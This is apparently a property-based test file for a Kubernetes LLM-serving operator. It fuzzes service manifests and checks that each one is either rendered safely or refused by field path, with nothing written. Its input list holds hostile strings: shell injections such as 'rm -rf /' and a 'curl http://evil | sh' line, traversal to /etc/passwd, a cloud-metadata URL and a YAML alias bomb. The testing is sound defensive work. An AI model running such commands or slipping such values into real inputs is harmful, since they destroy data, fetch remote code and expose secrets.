"""Hostile and malformed manifests, generated: accepted and valid, or refused by field path.

Each example takes a valid manifest and overwrites one to three fields with wrong types, huge
and tiny numbers, unicode, shell-injection strings, ``..`` paths, URLs with credentials, names
Kubernetes refuses for a Service, reserved resource prefixes, or an alias tree. It then goes
through ``kiln render`` (in-process, its real entry point) and, when refused for its spec,
through the operator's reconcile against the API emulator:

- the CLI exits 0 or 2, never 1 (its last-resort handler) and never with a traceback;
- accepted: the CRD (schema and CEL rules, as the API server evaluates them) accepts the
  manifest too, every rendered object validates against its Kubernetes or CRD schema, every
  Service name is a DNS-1035 label, and any user string inside a shell script is there only
  shell-quoted;
- refused: one line that starts with the field path (after ``file:line:column:`` when the YAML
  itself is refused), and the reconcile writes nothing at all.
"""

from __future__ import annotations

import asyncio
import contextlib
import copy
import io
import json
import re
import shlex
import time

import kubernetes_validate
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kiln.api.crd import crds
from kiln.cli import main as kiln_main
from kiln.controller.models import ModelResolver
from kiln.controller.service import reconcile_service
from kiln.demo.sandbox import Sandbox

from ..conftest import ROOT
from ..support import cel_rules, crd_schemas

pytestmark = pytest.mark.emulator_only(
    "checks the reconcile writes nothing through the emulator's audit; the real "
    "server's verdicts are test_admission_parity.py")

NS = "llm"
BASE = yaml.safe_load((ROOT / "examples" / "mistral-7b-fp16.yaml").read_text())
BASE["spec"]["autoscaling"] = {"mode": "builtin", "minReplicas": 1, "maxReplicas": 2}
BASE["spec"]["engine"] = {"maxBatchSize": 64, "maxSeqLen": 8192}
ENGINE_SCHEMA, SCHEMA = (crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"] for crd in crds())

PATHS = [
    "apiVersion", "kind", "metadata", "metadata.name", "metadata.namespace", "spec", "spec.model",
    "spec.model.source", "spec.model.revision", "spec.model.credentials",
    "spec.model.credentials.secretName", "spec.precision", "spec.kvCacheDtype", "spec.gpus",
    "spec.gpu", "spec.gpu.type", "spec.gpu.perNode", "spec.gpu.resourceName", "spec.gpu.memoryGiB",
    "spec.parallelism.tensor", "spec.parallelism.pipeline", "spec.runtime.server",
    "spec.runtime.image", "spec.engine.maxBatchSize", "spec.engine.maxInputLen",
    "spec.engine.maxSeqLen", "spec.engine.maxNumTokens", "spec.engine.tokensPerBlock",
    "spec.engine.kvCacheFreeGpuMemFraction", "spec.engineCache.claimName", "spec.replicas",
    "spec.autoscaling.mode", "spec.autoscaling.minReplicas", "spec.autoscaling.maxReplicas",
    "spec.autoscaling.targetKVCacheUtilization", "spec.autoscaling.prometheusUrl",
    "spec.autoscaling.scaleDownStabilizationSeconds", "spec.gpu.arch",
    "spec.unexpected", "spec.model.unexpected",
]
NASTY = [
    "", " ", "$(reboot)", "`id`", "a; rm -rf /", "x && curl http://evil | sh", "'; DROP TABLE x; --",
    "${HF_TOKEN}", "{{ .Values.secret }}", "../../etc/passwd", "..", "\u202eevil", "null", "~",
    "hf://user:hunter2@huggingface.co/org/model", "s3://AKIAEXAMPLE:secret@bucket/key",
    "pvc://models/../../etc", "pvc://models/./x", "pvc://Models/x", "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data", "hf://org/model\nname", "hf://org/mo del",
    "hf://org/model;id", "hf://" + "a" * 300, "hf://org", "s3://", "pvc://", "hf://../model",
    "http://prometheus:9090", "http://user:pw@prometheus:9090", "nvcr.io/nvidia/x:1; id",
    "http://prometheus:9090/api/v1/admin/tsdb/delete_series?match[]=up&x=", "http://prometheus:9090/#",
    "http://prometheus:9090@evil.example",
    "-rf", "--help", "a" * 64, "A-Name", "name-", "x.y",
    # Names a Service cannot carry, reserved resource names.
    "8b", "8b-server", "llama.v3", "llama-3.1-8b", "b" * 63 + ".x", "kubernetes.io/gpu",
    "requests.nvidia.com/gpu", "gpu.kubernetes.io/h100", "example.com/" + "g" * 64, "sm", "sm9x",
]
# Extreme numbers: the smallest and largest floats, past int64, thousands of digits (as many
# as Python writes out by default).
EXTREME = [1e-300, 5e-324, 1e308, -1e308, -0.0, 2 ** 63, -(2 ** 63) - 1, 10 ** 4000, 0.0004, 3601,
           86401, 0.001, 1e-7]
VALID = [
    "hf://meta-llama/Llama-3.1-8B-Instruct", "pvc://models/llama/8b", "s3://my-bucket/models/x",
    "fp8", "fp16", "int4-awq", "H100-80GB", "A100-80GB", "triton", "djl", "builtin", "keda", "hpa",
    "main", "v1.0", "hf-token", "engine-cache", "nvidia.com/gpu",
]
value = st.one_of(
    st.none(), st.booleans(), st.integers(min_value=-(2 ** 70), max_value=2 ** 70),
    st.integers(min_value=0, max_value=16), st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from(EXTREME),
    st.text(max_size=80), st.sampled_from(NASTY), st.sampled_from(VALID),
    st.lists(st.integers(), max_size=2), st.dictionaries(st.text(max_size=4), st.integers(), max_size=2),
)
# Values a real manifest might carry, so that a good share of the examples is accepted.
PLAUSIBLE = {
    "metadata.name": ["a", "x" * 63, "llama-3-1"], "metadata.namespace": ["default", "team-a"],
    "spec.model.source": VALID[:3] + ["hf://Qwen/Qwen2.5-7B-Instruct", "s3://b.ucket/a/b/"],
    "spec.model.revision": ["main", "v1.0", "0123abcd", "refs/pr/1"],
    "spec.model.credentials": [{"secretName": "hf-token"}], "spec.gpus": [1, 2, 4, 8],
    "spec.precision": ["fp8", "fp16", "bf16", "int4-awq", "int8-sq"], "spec.replicas": [0, 1, 3],
    "spec.autoscaling.mode": ["builtin", "keda", "hpa"], "spec.autoscaling.maxReplicas": [2, 8, 100],
    "spec.engine.maxBatchSize": [1, 8, 256], "spec.runtime.server": ["triton", "djl"],
    "spec.autoscaling.prometheusUrl": ["http://prometheus.monitoring:9090"],
    "spec.runtime.image": ["registry.example.com/kiln/runtime:1.0"],
    "spec.gpu.resourceName": ["nvidia.com/gpu", "amd.com/gpu", "kubernetes.io/gpu", "requests.nvidia.com/gpu"],
    "spec.autoscaling.scaleDownStabilizationSeconds": [0, 300, 3600, 3601, 86400],
    "spec.gpu": [{"type": "NVIDIA-RTX-A6000", "memoryGiB": 48, "arch": "sm86"},
                 {"type": "x" * 40, "memoryGiB": 80}, {"type": "L40S", "memoryGiB": 44}],
    "spec.engine.kvCacheFreeGpuMemFraction": [0.01, 0.5, 0.0001, 1e-300],
}
plausible = st.sampled_from(sorted(PLAUSIBLE)).flatmap(
    lambda path: st.tuples(st.just(path), st.sampled_from(PLAUSIBLE[path])))
mutations = st.lists(st.one_of(st.tuples(st.sampled_from(PATHS), value), plausible), min_size=1, max_size=3)


def _mutate(changes):
    manifest = copy.deepcopy(BASE)
    for path, new in changes:
        *parents, leaf = path.split(".")
        node = manifest
        for key in parents:
            if not isinstance(node.get(key), dict):
                node[key] = {}
            node = node[key]
        node[leaf] = new
    return manifest


def _kiln(tmp_path, manifest):
    path = tmp_path / "service.yaml"
    path.write_text(yaml.safe_dump(manifest, allow_unicode=True, sort_keys=False))
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = kiln_main(["render", "-f", str(path), "-o", "json"])
    return code, out.getvalue(), err.getvalue()


def _strings(node):
    if isinstance(node, str):
        yield node
    elif isinstance(node, dict):
        for v in node.values():
            yield from _strings(v)
    elif isinstance(node, list):
        for v in node:
            yield from _strings(v)


def _writes(sb):
    return [entry for entry in sb.emulator.audit if entry[1] in ("create", "update", "patch", "delete")]


@pytest.fixture
async def sandbox():
    async with Sandbox() as sb:
        sb.add_namespace(NS)
        yield sb


FIELD_PREFIXES = ("apiVersion", "kind", "metadata", "spec", "manifest", "does not fit")
seen = {"accepted": 0, "refused": 0, "reconciled": 0}


@settings(max_examples=500, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(changes=mutations)
async def test_every_manifest_is_accepted_and_valid_or_refused_by_field_with_nothing_created(
        sandbox, tmp_path, changes):
    manifest = _mutate(changes)
    code, out, err = _kiln(tmp_path, manifest)
    assert code in (0, 2), (changes, err)
    assert "Traceback" not in err
    if code == 0:
        seen["accepted"] += 1
        assert not _crd_refusal(manifest), (changes, _crd_refusal(manifest))
        objects = json.loads(out)["items"]
        user = {s for s in _strings(manifest["spec"]) if len(s) > 2}
        for obj in objects:
            if crd_schemas.has_schema(obj):
                crd_schemas.validate(obj)
            elif obj["kind"] == "LLMEngine":  # Kiln's own CRD, with its CEL rules
                assert cel_rules.refusal(ENGINE_SCHEMA, obj) is None, obj["spec"]
            else:
                kubernetes_validate.validate(obj, "1.33", strict=True)
            if obj["kind"] == "Service":
                assert re.fullmatch(r"[a-z]([-a-z0-9]{0,61}[a-z0-9])?", obj["metadata"]["name"]), obj["metadata"]
            for spec in _pod_specs(obj):
                for container in spec.get("containers", []) + spec.get("initContainers", []):
                    command = container.get("command") or []
                    if command[-2:-1] == ["-c"]:
                        for text in user:
                            assert text not in command[-1] or shlex.quote(text) in command[-1], text
        return
    seen["refused"] += 1
    [line] = err.strip().splitlines()
    assert len(line) < 400, line
    message = line.removeprefix("error: ")
    if message.startswith(str(tmp_path)):  # the YAML itself: file:line:column: field: ...
        where = re.match(r"\S+:\d+:\d+: ", message)
        assert where and message[where.end():].startswith(FIELD_PREFIXES), message
        return
    assert message.startswith(FIELD_PREFIXES), (changes, message)
    if not message.startswith(("spec", "does not fit")) or not isinstance(manifest.get("spec"), dict):
        return  # the API server refuses a bad envelope before any operator sees it
    seen["reconciled"] += 1
    sb = sandbox
    before = len(_writes(sb))
    body = {"metadata": {"name": "svc", "namespace": NS, "uid": "u-1", "generation": 1},
            "spec": manifest["spec"]}
    outcome = await reconcile_service(body, sb.api, ModelResolver(allow_download=False),
                                      "2026-01-01T00:00:00Z")
    assert _writes(sb)[before:] == [], changes
    stalled = [c for c in outcome.status["conditions"] if c["type"] == "Stalled"]
    assert stalled and stalled[0]["status"] == "True", (changes, outcome.status)
    # The same field named (YAML sorts mapping keys, so a quoted value may print differently).
    assert stalled[0]["message"].split(":")[0] == message.split(":")[0], (stalled[0]["message"], message)


def _crd_refusal(manifest):
    # Type checks left out: kiln render still coerces some types the API server refuses
    # (``replicas: false``); the names and values the API server refuses are what this checks.
    return cel_rules.refusal(SCHEMA, manifest, types=False)


@settings(max_examples=60, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(path=st.sampled_from(PATHS[5:]), fanout=st.integers(2, 12), depth=st.integers(1, 9))
def test_an_alias_tree_in_any_field_is_refused_fast_on_one_line(tmp_path, path, fanout, depth):
    levels = [f"&l0 [{', '.join(['lol'] * fanout)}]"]
    levels += [f"&l{i} [{', '.join([f'*l{i - 1}'] * fanout)}]" for i in range(1, depth)]
    value = "[" + ", ".join(levels) + "]"
    text = yaml.safe_dump(_mutate([(path, "ALIAS_TREE_HERE")]), sort_keys=False).replace("ALIAS_TREE_HERE", value)
    (tmp_path / "service.yaml").write_text(text)
    out, err = io.StringIO(), io.StringIO()
    started = time.perf_counter()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = kiln_main(["render", "-f", str(tmp_path / "service.yaml"), "-o", "json"])
    assert time.perf_counter() - started < 1.0
    assert code == 2, (path, fanout, depth)
    [line] = err.getvalue().strip().splitlines()
    assert len(line) < 400 and "Traceback" not in line, line


def test_the_generated_manifests_cover_both_outcomes():
    # Runs after the property test in file order: both branches were exercised.
    if seen["accepted"] + seen["refused"] == 0:
        pytest.skip("the property test did not run in this session")
    assert seen["accepted"] >= 20 and seen["refused"] >= 200 and seen["reconciled"] >= 100, seen


def _pod_specs(obj):
    spec = obj.get("spec") or {}
    if "template" in spec:
        yield spec["template"]["spec"]
    for key in ("leaderTemplate", "workerTemplate"):
        template = (spec.get("leaderWorkerTemplate") or {}).get(key)
        if template:
            yield template["spec"]


# --- names and values the API server refuses (the operator's side) ---------------------------

def _condition(svc, type_):
    return next((c for c in (svc.get("status") or {}).get("conditions", []) if c["type"] == type_), {})


async def test_a_name_the_api_server_accepts_but_a_service_cannot_carry_stalls_with_nothing_written():
    # The API server stores an LLMService named 8b (a DNS-1123 subdomain) when its CRD has no
    # rule on names (the emulator evaluates none); its Service 8b-server would be refused.
    async with Sandbox(build_seconds=0.2, start_seconds=0.1, retry_delay=0.3) as sb:
        sb.add_namespace(NS)
        await sb.start_operator()
        manifest = copy.deepcopy(BASE)
        manifest["metadata"] = {"name": "8b", "namespace": NS}
        await sb.create(manifest)
        await sb.wait_for(lambda: _condition(sb.get("llmservices", "8b", NS), "Stalled").get("status") == "True",
                          what="Stalled")
        stalled = _condition(sb.get("llmservices", "8b", NS), "Stalled")
        assert stalled["message"].startswith("metadata.name: '8b' must be a DNS-1035 label")
        for plural in ("llmengines", "jobs", "deployments", "services", "serviceaccounts"):
            assert sb.objects(plural) == [], plural
        assert sb.operator_error is None


async def test_a_write_the_api_server_refuses_stalls_the_service_once_not_in_a_loop():
    from ..support.faults import FlakyEmulator

    refusal = ('Service "mistral-7b-server" is invalid: metadata.name: Invalid value: '
               '"mistral-7b-server": a DNS-1035 label must consist of lower case alphanumeric characters')
    emulator = FlakyEmulator()
    async with Sandbox(emulator=emulator, build_seconds=0.2, start_seconds=0.1, retry_delay=0.3) as sb:
        sb.add_namespace(NS)
        emulator.invalid = {"services": refusal}
        await sb.start_operator()
        sb.start_kubelet()
        manifest = copy.deepcopy(BASE)
        manifest["metadata"] = {"name": "mistral-7b", "namespace": NS}
        await sb.create(manifest)
        await sb.wait_for(
            lambda: _condition(sb.get("llmservices", "mistral-7b", NS), "Stalled").get("status") == "True",
            timeout=30, what="Stalled after the refused Service")
        svc = sb.get("llmservices", "mistral-7b", NS)
        stalled = _condition(svc, "Stalled")
        assert stalled["reason"] == "ApplyRefused"
        assert stalled["message"] == f"the API server refused Service mistral-7b-server: {refusal}"
        assert _condition(svc, "Ready")["status"] == "False"
        await asyncio.sleep(3.0)  # ten of the operator's retry delays
        assert [r for r in emulator.refused if r[2] == "services"] == [(422, "PATCH", "services")], \
            "the refused write was retried"
        warnings = [e for e in sb.objects("events") if e.get("reason") == "ApplyRefused"]
        assert len(warnings) == 1 and "ReconcileError" not in [e.get("reason") for e in sb.objects("events")]
        assert sb.operator_error is None
